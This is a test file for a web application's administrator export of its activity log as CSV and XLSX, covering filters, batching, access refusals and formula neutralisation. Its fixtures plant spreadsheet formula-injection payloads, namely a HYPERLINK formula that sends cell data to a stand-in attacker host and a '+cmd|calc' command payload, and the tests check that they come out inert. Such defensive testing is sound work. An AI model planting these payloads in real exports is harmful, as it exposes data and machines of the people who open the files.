import type { ActivityEntry } from '../../common/wire.ts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eachActivity } from '../../server/services/activity.ts';
import { makeWorld, type World } from '../fixtures/world.ts';
import { Client } from '../helpers/client.ts';
import { dialects } from '../helpers/app.ts';

// The activity log's export for administrators, as CSV (UTF-8 with BOM, RFC 4180,
// formulas made inert) and as XLSX, with the list's filters; members and visitors are refused.

type Entry = ActivityEntry;

const HEADER = ['time', 'person', 'person_id', 'address', 'action', 'resource', 'record', 'outcome', 'detail'];

/** RFC 4180, as a spreadsheet reads it: quoted cells may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

const cellsOf = (e: Entry) => [e.at, e.actor, e.actor_pid === null ? '' : String(e.actor_pid), e.address, e.action, e.resource, e.record, e.outcome, e.detail];
const inert = (v: string) => (/^[=+\-@]/.test(v) ? `'${v}` : v);

describe.each(dialects)('the activity export on %s', (dialect) => {
  let w: World;
  const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click, me")';

  beforeAll(async () => {
    w = await makeWorld(dialect);
    // a failed login records the name tried: anyone can put a formula in the log this way
    await new Client(w.app).loginResponse(formula, 'whatever-password');
    await new Client(w.app).loginResponse('+cmd|calc', 'whatever-password');
    await w.user.send('POST', '/api/publication/', { title: 'Exported, "quoted"', author: '["M"]', source: 'V', year: '2025' });
  });
  afterAll(() => w.t.close());

  const listAll = async (query: string): Promise<Entry[]> => {
    const first = (await w.admin.get(`/api/activity/?${query}`)).json() as { pages: number; entries: Entry[] };
    const out = [...first.entries];
    for (let p = 2; p <= first.pages; p++) out.push(...((await w.admin.get(`/api/activity/?${query}&page=${p}`)).json() as { entries: Entry[] }).entries);
    return out;
  };

  it('gives every matching entry as CSV: BOM, header, rows newest first as the list has them, formulas made inert', async () => {
    const res = await w.admin.get('/api/activity/export/?format=csv');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(String(res.headers['content-disposition'])).toMatch(/^attachment; filename="activity-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect([...res.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = res.rawPayload.toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const rows = parseCsv(text.slice(1));
    expect(rows[0]).toEqual(HEADER);
    const all = await listAll('');
    expect(rows.slice(1)).toEqual(all.map((e) => cellsOf(e).map(inert)));
    // the formula came out as text a spreadsheet shows, with its comma and quotes intact
    const tried = rows.find((r) => r[6]?.includes('HYPERLINK'));
    expect(tried?.[6]).toBe(`'${formula}`);
    expect(rows.find((r) => r[6]?.includes('calc'))?.[6]).toBe(`'+cmd|calc`);
    expect(rows.some((r) => r[6] === formula)).toBe(false);
  });

  it('applies the filters: person, resource, action and time', async () => {
    const res = await w.admin.get(`/api/activity/export/?format=csv&person=${w.user.pid}&resource=publication&action=create`);
    const rows = parseCsv(res.rawPayload.toString('utf8').slice(1)).slice(1);
    const expected = await listAll(`person=${w.user.pid}&resource=publication&action=create`);
    expect(expected.length).toBeGreaterThan(0);
    expect(rows).toEqual(expected.map((e) => cellsOf(e).map(inert)));
    const failed = parseCsv((await w.admin.get('/api/activity/export/?format=csv&action=login_failed')).rawPayload.toString('utf8').slice(1)).slice(1);
    expect(failed.length).toBe(2);
    expect(failed.every((r) => r[4] === 'login_failed' && r[7] === 'failed' && r[2] === '')).toBe(true);
    const none = parseCsv((await w.admin.get('/api/activity/export/?format=csv&from=2999-01-01')).rawPayload.toString('utf8').slice(1));
    expect(none).toEqual([HEADER]);
  });

  it('gives the same rows as an XLSX workbook, every cell text and never a formula', async () => {
    const res = await w.admin.get('/api/activity/export/?format=xlsx&resource=session');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(String(res.headers['content-disposition'])).toMatch(/filename="activity-\d{4}-\d{2}-\d{2}\.xlsx"$/);
    const { default: Excel } = await import('exceljs');
    const book = new Excel.Workbook();
    const bytes = res.rawPayload;
    await book.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
    const sheet = book.worksheets[0];
    const rows: string[][] = [];
    sheet?.eachRow({ includeEmpty: true }, (row) => {
      rows.push(HEADER.map((_, i) => String(row.getCell(i + 1).value ?? '')));
      row.eachCell((cell) => expect(cell.type).toBe(Excel.ValueType.String));
    });
    expect(rows[0]).toEqual(HEADER);
    const expected = await listAll('resource=session');
    expect(rows.slice(1)).toEqual(expected.map(cellsOf));
    expect(rows.slice(1).some((r) => r[6] === formula)).toBe(true);
  });

  it('reads the log a batch at a time without losing or repeating an entry, and stops at the cap', async () => {
    const all = (await listAll('')).map((e) => e.eid);
    const seen: number[] = [];
    for await (const batch of eachActivity({ db: w.app.lab.db }, { cap: 1000 }, 3)) seen.push(...batch.map((e) => e.eid));
    expect(seen).toEqual(all);
    const capped: number[] = [];
    for await (const batch of eachActivity({ db: w.app.lab.db }, { cap: 5 }, 3)) capped.push(...batch.map((e) => e.eid));
    expect(capped).toEqual(all.slice(0, 5));
  });

  it('refuses a member (403, in their language), a visitor (401) and an unknown format', async () => {
    w.user.lang = 'zh';
    const zh = await w.user.get('/api/activity/export/?format=csv');
    w.user.lang = 'en';
    const en = await w.user.get('/api/activity/export/?format=csv');
    expect([zh.statusCode, en.statusCode]).toEqual([403, 403]);
    expect(zh.body).not.toBe(en.body);
    expect((await new Client(w.app).get('/api/activity/export/?format=csv')).statusCode).toBe(401);
    expect((await w.admin.get('/api/activity/export/?format=pdf')).statusCode).toBe(400);
    expect((await w.admin.get('/api/activity/export/?format=csv&person=abc')).statusCode).toBe(400);
  });
});
